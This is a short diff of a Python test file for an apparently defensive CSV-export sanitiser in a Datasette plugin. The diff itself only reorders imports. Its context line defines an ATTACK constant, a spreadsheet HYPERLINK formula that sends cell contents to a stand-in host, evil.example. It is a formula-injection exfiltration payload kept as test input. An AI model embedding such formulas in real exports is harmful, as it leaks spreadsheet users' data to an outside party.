@@ -13,11 +13,13 @@ import io
 from urllib.parse import urlencode
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import given
+from hypothesis import settings
 from hypothesis import strategies as st
 
 from datasette_plugins.csv_guard import CsvNeutraliser
-from datasette_plugins.exports import DANGEROUS_PREFIXES, neutralise
+from datasette_plugins.exports import DANGEROUS_PREFIXES
+from datasette_plugins.exports import neutralise
 from tests.fixtures.datasette import actor_cookie
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
